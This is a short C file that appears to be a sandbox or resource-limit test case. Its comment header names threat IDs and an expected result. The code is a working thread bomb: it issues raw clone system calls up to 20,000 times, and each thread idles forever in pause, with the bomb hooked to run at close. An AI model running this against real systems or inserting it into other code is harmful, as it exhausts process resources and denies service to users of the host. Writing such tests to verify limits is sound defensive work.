// Attack: threads without end by hidden calls, which pause
// Threat: F.3 #40, F.3 #52
// Gets: below
// Code: LIMIT
// Says: threads and goes on
// Never: rlimits
// Machine: x86_64
// Rest: rest.c
#define HIDDEN
#define MORE(CALL) CALL(56)
#include <stdint.h>
#include <stdlib.h>
static long hidden(int number, long a, long b, long c);

static void idle(void)
{
    for (;;)
        hidden(34, 0, 0, 0);
}

static void bomb(void)
{
    enum { STACK = 16384, MOST = 20000 };
    for (int i = 0; i < MOST; i++) {
        char *stack = malloc(STACK);
        if (stack == NULL)
            break;
        // It returns from its call into idle.
        uintptr_t top = ((uintptr_t)stack + STACK - 64) & ~(uintptr_t)15;
        *(void (**)(void))(top - 8) = idle;
        // clone: memory, files, signals, thread
        if (hidden(56, 0x50f00, (long)(top - 8), 0) < 0)
            break;
    }
}
#define AT_CLOSE bomb()
